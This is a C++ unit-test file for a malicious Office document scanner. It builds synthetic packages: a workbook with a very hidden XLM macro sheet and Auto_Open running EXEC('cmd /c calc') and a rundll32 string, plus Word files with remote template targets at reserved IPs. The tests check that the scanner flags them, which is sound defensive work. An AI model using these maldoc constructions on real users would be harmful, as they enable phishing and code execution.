@@ -1,0 +1,165 @@
+// OOXML packages built in code: an .xlsm-like workbook with a very hidden
+// macro sheet and an Auto_Open name, a remote-template .docx, a macro-free
+// .docx, and relationship target resolution.
+#include <gtest/gtest.h>
+
+#include "detect/ooxml_detector.h"
+#include "detect/xml_scan.h"
+#include "emogate/scanner.h"
+#include "office_fixtures.h"
+
+using namespace emogate;
+using namespace emogate::test;
+
+namespace {
+
+const std::string kRootRels =
+    R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
+    R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)";
+
+std::string xlsm(std::string_view state, bool auto_open) {
+  std::string types =
+      R"(<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)"
+      R"(<Default Extension="xml" ContentType="application/xml"/>)"
+      R"(<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>)"
+      R"(<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>)";
+  std::string workbook =
+      R"(<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" )"
+      R"(xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>)"
+      R"(<sheet name="Sheet1" sheetId="1" r:id="rId1"/>)"
+      R"(<sheet name="Macro1" sheetId="2" )" +
+      (state.empty() ? std::string() : "state=\"" + std::string(state) + "\" ") +
+      R"(r:id="rId2"/></sheets>)" +
+      (auto_open ? R"(<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>)"
+                 : "") +
+      "</workbook>";
+  std::string wb_rels =
+      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>)"
+      R"(<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>)"
+      R"(<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>)"
+      R"(</Relationships>)";
+  std::string macro =
+      R"(<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" )"
+      R"(xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>)"
+      R"(<row r="1"><c r="A1"><f>EXEC(&quot;cmd /c calc&quot;)</f><v>0</v></c></row>)"
+      R"(<row r="2"><c r="A2" t="s"><v>0</v></c></row>)"
+      R"(<row r="3"><c r="A3"><f>HALT()</f></c></row></sheetData></xm:macrosheet>)";
+  std::string sst =
+      R"(<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">)"
+      R"(<si><t>rundll32 payload.dll,Run</t></si></sst>)";
+  std::string sheet = R"(<?xml version="1.0"?><worksheet><sheetData/></worksheet>)";
+  return zip_bytes({{"[Content_Types].xml", types},
+                    {"_rels/.rels", kRootRels},
+                    {"xl/workbook.xml", workbook},
+                    {"xl/_rels/workbook.xml.rels", wb_rels},
+                    {"xl/worksheets/sheet1.xml", sheet},
+                    {"xl/macrosheets/sheet1.xml", macro},
+                    {"xl/sharedStrings.xml", sst}});
+}
+
+std::string docx(const std::string& settings_rels) {
+  std::string types =
+      R"(<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)"
+      R"(<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>)"
+      R"(<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)";
+  std::string rels =
+      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>)";
+  std::string doc_rels =
+      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>)"
+      R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/info" TargetMode="External"/></Relationships>)";
+  std::vector<std::pair<std::string, std::string>> files = {
+      {"[Content_Types].xml", types},
+      {"_rels/.rels", rels},
+      {"word/document.xml", R"(<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p/></w:body></w:document>)"},
+      {"word/_rels/document.xml.rels", doc_rels},
+      {"word/settings.xml", R"(<?xml version="1.0"?><w:settings xmlns:w="x"><w:attachedTemplate r:id="rId1"/></w:settings>)"}};
+  if (!settings_rels.empty()) files.emplace_back("word/_rels/settings.xml.rels", settings_rels);
+  return zip_bytes(files);
+}
+
+}  // namespace
+
+TEST(Ooxml, MacroSheetVeryHiddenWithAutoOpenIsMalicious) {
+  auto rep = Scanner(Config{}).scan_file(xlsm("veryHidden", true), "book.xlsm");
+  const Finding* f = nullptr;
+  ASSERT_TRUE(has_finding(rep, FindingType::xlm_macro, "", &f)) << to_json(rep);
+  EXPECT_EQ(f->path, "book.xlsm");
+  EXPECT_EQ(f->verdict, Verdict::malicious);
+  EXPECT_NE(f->detail.find("sheet 'Macro1' very hidden"), std::string::npos) << f->detail;
+  EXPECT_NE(f->detail.find("_xlnm.Auto_Open"), std::string::npos);
+  EXPECT_NE(f->detail.find("EXEC"), std::string::npos);
+  EXPECT_NE(f->detail.find("rundll32"), std::string::npos);
+  const ObjectSummary* text = find_object(rep, "book.xlsm/XLM/Macro1.txt");
+  ASSERT_NE(text, nullptr) << to_json(rep);
+  EXPECT_EQ(text->type, "xlm_formulas");
+  EXPECT_TRUE(text->derived);
+}
+
+TEST(Ooxml, VisibleMacroSheetWithoutAutoOpenIsSuspicious) {
+  auto rep = Scanner(Config{}).scan_file(xlsm("", false), "book.xlsm");
+  const Finding* f = nullptr;
+  ASSERT_TRUE(has_finding(rep, FindingType::xlm_macro, "sheet 'Macro1' visible", &f)) << to_json(rep);
+  EXPECT_EQ(f->verdict, Verdict::suspicious);
+}
+
+TEST(Ooxml, RemoteTemplateDocx) {
+  std::string settings_rels =
+      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" )"
+      R"(Target="http://203.0.113.7/templates/invoice.dotm" TargetMode="External"/></Relationships>)";
+  auto rep = Scanner(Config{}).scan_file(docx(settings_rels), "invoice.docx");
+  const Finding* f = nullptr;
+  ASSERT_TRUE(has_finding(rep, FindingType::remote_template, "", &f)) << to_json(rep);
+  EXPECT_NE(f->detail.find("attachedTemplate"), std::string::npos);
+  EXPECT_NE(f->detail.find("http://203.0.113.7/templates/invoice.dotm"), std::string::npos);
+  EXPECT_EQ(rep.verdict, Verdict::malicious);
+  EXPECT_NE(std::find(rep.urls.begin(), rep.urls.end(), "http://203.0.113.7/templates/invoice.dotm"),
+            rep.urls.end());
+}
+
+TEST(Ooxml, UncTemplateIsRemoteToo) {
+  std::string settings_rels =
+      R"(<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" )"
+      R"(Target="\\198.51.100.2\share\t.dotm" TargetMode="External"/></Relationships>)";
+  auto rep = Scanner(Config{}).scan_file(docx(settings_rels), "letter.docx");
+  EXPECT_TRUE(has_finding(rep, FindingType::remote_template, "\\\\198.51.100.2")) << to_json(rep);
+}
+
+TEST(Ooxml, MacroFreeDocxIsClean) {
+  auto rep = Scanner(Config{}).scan_file(docx(""), "clean.docx");
+  EXPECT_FALSE(has_finding(rep, FindingType::xlm_macro));
+  EXPECT_FALSE(has_finding(rep, FindingType::vba_macro));
+  EXPECT_FALSE(has_finding(rep, FindingType::remote_template));
+  EXPECT_EQ(rep.verdict, Verdict::clean) << to_json(rep);
+  // The hyperlink is only a URL, not a finding.
+  EXPECT_NE(std::find(rep.urls.begin(), rep.urls.end(), "https://example.org/info"), rep.urls.end());
+}
+
+TEST(Ooxml, ResolveTarget) {
+  EXPECT_EQ(ooxml::resolve_target("xl/_rels/workbook.xml.rels", "macrosheets/sheet1.xml"),
+            "xl/macrosheets/sheet1.xml");
+  EXPECT_EQ(ooxml::resolve_target("xl/_rels/workbook.xml.rels", "/xl/macrosheets/a.xml"),
+            "xl/macrosheets/a.xml");
+  EXPECT_EQ(ooxml::resolve_target("xl/worksheets/_rels/s.xml.rels", "../../x/../y.bin"), "y.bin");
+  EXPECT_EQ(ooxml::resolve_target("_rels/.rels", "word/document.xml"), "word/document.xml");
+  EXPECT_TRUE(ooxml::remote_target("mhtml:https://x.example/a!x-usc:https://x.example/a"));
+  EXPECT_FALSE(ooxml::remote_target("media/image1.png"));
+}
+
+TEST(XmlScan, TolerantOfBrokenMarkup) {
+  xml::Scanner sc(R"(<a x="1" y='2'><!-- <b c="no"/> --><b c="&amp;&#65;&#x42;"/><c d="unterminated)");
+  xml::Tag t;
+  ASSERT_TRUE(sc.next(t));
+  EXPECT_EQ(t.name, "a");
+  EXPECT_EQ(t.attr("y"), "2");
+  ASSERT_TRUE(sc.next(t));
+  EXPECT_EQ(t.name, "b");
+  EXPECT_TRUE(t.self_closing);
+  EXPECT_EQ(xml::unescape(t.attr("c")), "&AB");
+  ASSERT_TRUE(sc.next(t));
+  EXPECT_EQ(t.name, "c");
+  EXPECT_FALSE(sc.next(t));
+}
